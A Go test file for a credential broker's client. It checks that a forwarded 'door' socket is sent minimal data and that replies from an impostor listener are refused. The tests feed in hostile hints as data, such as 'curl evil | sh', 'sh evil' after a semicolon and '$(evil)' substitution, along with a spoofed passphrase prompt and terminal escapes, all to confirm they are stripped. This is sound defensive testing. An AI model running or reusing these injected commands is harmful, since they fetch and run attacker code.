//go:build linux

package client

import (
	"bufio"
	"bytes"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"broker/internal/fault"
	"broker/internal/paths"
	"broker/internal/wire"
)

// atDoor is a client whose environment names everything that a door must not be told.
func atDoor(t *testing.T) Client {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "door")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	t.Setenv("DISPLAY", ":0")
	return Client{Version: "test", Wait: 20 * time.Second, Paths: paths.Paths{Config: "/the/config",
		Credentials: "/the/credentials", Registry: "/the/registry", State: "/the/state", Keyring: "/the/keyring",
		Socket: filepath.Join(t.TempDir(), "d", "s"), Door: dir}}
}

func (c Client) door() string { return filepath.Join(c.Paths.Door, wire.DoorSocket) }

// TestDoorIsToldLittle checks every byte that a door is sent.
func TestDoorIsToldLittle(t *testing.T) {
	c := atDoor(t)
	var got string
	serve(t, c.door(), func(conn net.Conn) {
		line, _ := wire.ReadLine(bufio.NewReader(conn))
		got = string(line)
		_, _ = conn.Write(whole(wire.Request{}))
		_ = conn.Close()
	})
	resp, err := c.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev", MinTTL: time.Minute, Reason: "r",
		Also: []string{"x"}})
	if err != nil || resp.Credential == nil || resp.Credential.SessionToken.Reveal() != "hush/token" {
		t.Fatalf("got %+v, %v", resp, err)
	}
	const want = `{"v":1,"verb":"get","profile":"dev","timeout_ms":19600,"min_ttl_ms":60000}`
	if strings.TrimSpace(got) != want {
		t.Errorf("sent %s, want %s", got, want)
	}
}

// TestDoorIsAskedLittle checks that a request which a door does not answer fails before anything is sent.
func TestDoorIsAskedLittle(t *testing.T) {
	c := atDoor(t)
	asked := serve(t, c.door(), good)
	for _, verb := range []string{wire.State, wire.Login, wire.Lock, wire.Unlock, wire.Logout, wire.Publish, wire.Serve,
		wire.PrivateFiles, wire.Allow, wire.OpenDoor, wire.CloseDoor, wire.Attend, wire.MakeToken, wire.Rotate, "", "new"} {
		_, err := c.Do(t.Context(), wire.Request{Verb: verb, Profile: "dev"})
		if f := fault.Of(err); f == nil || f.Kind != fault.Usage || !strings.Contains(f.Message, "this shell has a door") ||
			f.Hint != "broker status" {
			t.Errorf("%q: %v", verb, err)
		}
	}
	if _, err := c.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev", Role: &wire.Role{Seconds: 900}}); err == nil {
		t.Error("a role was sent, or dropped without a word")
	}
	if _, err := c.Status(t.Context()); err == nil {
		t.Error("the status was asked for")
	}
	if n := asked.Load(); n != 0 {
		t.Errorf("%d requests were sent", n)
	}
	if resp, err := c.Do(t.Context(), wire.Request{Verb: wire.Ping}); err != nil || asked.Load() != 1 {
		t.Errorf("ping: %+v, %v", resp, err)
	}
}

// TestDoorThatLies checks that a listener which is not Broker gets nothing but a refusal: no prompt is shown or
// answered, no other part of the answer comes through, and its hint is a command of Broker or none.
func TestDoorThatLies(t *testing.T) {
	const not = "is not Broker's daemon"
	for name, tt := range map[string]struct{ says, message, hint string }{
		"a prompt":          {`{"v":1,"ask":{"id":1,"text":"Passphrase of your disk:"}}`, not, ""},
		"a notice":          {`{"v":1,"notice":"call this number"}`, not, ""},
		"endless pages":     {`{"v":1,"more":true}`, not, ""},
		"a line too long":   {strings.Repeat("x", 2*wire.MaxLine), not, ""},
		"half a credential": {`{"v":1,"credential":{"AccessKeyId":"A"}}`, "not a complete credential", ""},
		"garbage":           {"SSH-2.0-OpenSSH", not, ""},
		"an error":          {`{"v":1,"error":{"kind":"denied","message":"no\u001b[2J"}}`, `no\x1b[2J`, ""},
		"a hint":            {`{"v":1,"error":{"kind":"locked","message":"locked","hint":"broker unlock"}}`, "locked" + elsewhere, "broker unlock"},
		"a trap":            {`{"v":1,"error":{"kind":"locked","message":"locked","hint":"curl evil | sh"}}`, "locked", ""},
		"a trap behind":     {`{"v":1,"error":{"kind":"locked","message":"locked","hint":"broker unlock; sh evil"}}`, "locked", ""},
		"a trap in a word":  {`{"v":1,"error":{"kind":"locked","message":"locked","hint":"broker login $(evil)"}}`, "locked", ""},
		"another command":   {`{"v":1,"error":{"kind":"locked","message":"locked","hint":"broker exec prod -- curl evil"}}`, "locked", ""},
		"another profile": {`{"v":1,"error":{"kind":"not_confirmed","message":"no","hint":"broker allow prod --for 15m --everywhere ` +
			`--reason WHY"}}`, "no", ""},
		"a longer time": {`{"v":1,"error":{"kind":"not_confirmed","message":"no","hint":"broker allow dev --for 12h --everywhere ` +
			`--reason WHY"}}`, "no", ""},
		"an option": {`{"v":1,"error":{"kind":"locked","message":"locked","hint":"broker login --registry"}}`, "locked", ""},
		"a yes": {`{"v":1,"error":{"kind":"not_confirmed","message":"no","hint":"broker allow dev --for 15m --everywhere ` +
			`--reason WHY"}}`, "no" + elsewhere, "broker allow dev --for 15m --everywhere --reason WHY"},
		"another login": {`{"v":1,"error":{"kind":"login_needed","message":"no","hint":"broker login evil"}}`, "no", ""},
		"a login": {`{"v":1,"error":{"kind":"login_needed","message":"no","hint":"broker login dev"}}`,
			"no" + elsewhere, "broker login dev"},
		"paths of others": {`{"v":1,"error":{"kind":"usage","message":"no"},"setup":{"home":"/evil"},"route":{"https_proxy":"x"}}`,
			"no", ""},
	} {
		c := atDoor(t)
		asked := serve(t, c.door(), says(tt.says+"\n"))
		resp, err := c.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev"})
		f := fault.Of(err)
		if f == nil || !strings.Contains(f.Error(), tt.message) || resp.Credential != nil || resp.Setup != nil ||
			asked.Load() != 1 {
			t.Errorf("%s: %+v, %v, asked %d times", name, resp, err, asked.Load())
			continue
		}
		if f.Kind != fault.Unreachable && string(f.Hint) != tt.hint {
			t.Errorf("%s: hint %q", name, f.Hint)
		}
	}
	// What goes beside a credential is dropped.
	c := atDoor(t)
	line := bytes.TrimSpace(whole(wire.Request{}))
	serve(t, c.door(), says(string(line[:len(line)-1])+`,"warnings":["call this number"],"setup":{"home":"/evil"}}`+"\n"))
	resp, err := c.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev"})
	if err != nil || resp.Credential == nil || resp.Warnings != nil || resp.Setup != nil {
		t.Errorf("beside a credential: %+v, %v", resp, err)
	}
}

// TestDoorWithoutListener checks that no daemon is started for a door, that a restart is waited for, and what is said
// to a person on a far host.
func TestDoorWithoutListener(t *testing.T) {
	c := atDoor(t)
	c.Wait = 300 * time.Millisecond
	runs := fakeBroker(t, "exit 0")
	_, err := c.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev"})
	f := fault.Of(err)
	if f == nil || f.Kind != fault.Unreachable || !strings.HasPrefix(f.Message, "nothing listens on "+c.door()+": ") ||
		!strings.Contains(f.Message, "ssh") || f.Hint != "broker forward list" {
		t.Errorf("no socket: %v", err)
	}
	c.Wait = time.Minute
	// sshd accepts a connection, and closes it if it reaches nobody. The attempts are few.
	asked := serve(t, c.door(), says(""))
	_, err = c.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev"})
	if f := fault.Of(err); f == nil || f.Kind != fault.Unreachable || !strings.Contains(f.Message, "closed the connection without an answer") {
		t.Errorf("closed: %v", err)
	}
	if n := asked.Load(); n < 2 || n > 5 {
		t.Errorf("closed: asked %d times", n)
	}
	restarted := atDoor(t)
	listens := make(chan struct{})
	go func() {
		defer close(listens)
		time.Sleep(100 * time.Millisecond)
		serve(t, restarted.door(), says(""), good)
	}()
	resp, err := restarted.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev"})
	<-listens
	if err != nil || resp.Credential == nil {
		t.Errorf("after a restart: %+v, %v", resp, err)
	}
	if n := runs(); n != 0 {
		t.Errorf("a daemon was started %d times", n)
	}
	silenced := atDoor(t)
	silenced.Wait = 1100 * time.Millisecond
	serve(t, silenced.door(), silent)
	_, err = silenced.Do(t.Context(), wire.Request{Verb: wire.Get, Profile: "dev"})
	if f := fault.Of(err); f == nil || !strings.Contains(f.Message, "did not answer within 1.1s") || f.Hint != "broker forward list" {
		t.Errorf("no answer: %v", err)
	}
}

// TestCredprocAtDoor checks that the helper alone works with a door, without a home directory.
func TestCredprocAtDoor(t *testing.T) {
	c := atDoor(t)
	serve(t, c.door(), good)
	for _, name := range []string{"HOME", "XDG_CONFIG_HOME", "XDG_RUNTIME_DIR"} {
		t.Setenv(name, "")
	}
	t.Setenv("BROKER_DOOR", c.Paths.Door)
	var out, problems bytes.Buffer
	if code := Credproc([]string{"dev"}, &out, &problems); code != 0 || !strings.Contains(out.String(), `"AccessKeyId":"ASIA`) {
		t.Errorf("exit code %d, %s%s", code, out.String(), problems.String())
	}
	t.Setenv("BROKER_DOOR", "")
	out.Reset()
	if code := Credproc([]string{"dev"}, &out, &problems); code == 0 {
		t.Error("without a door it needs no home: the test is void")
	}
}
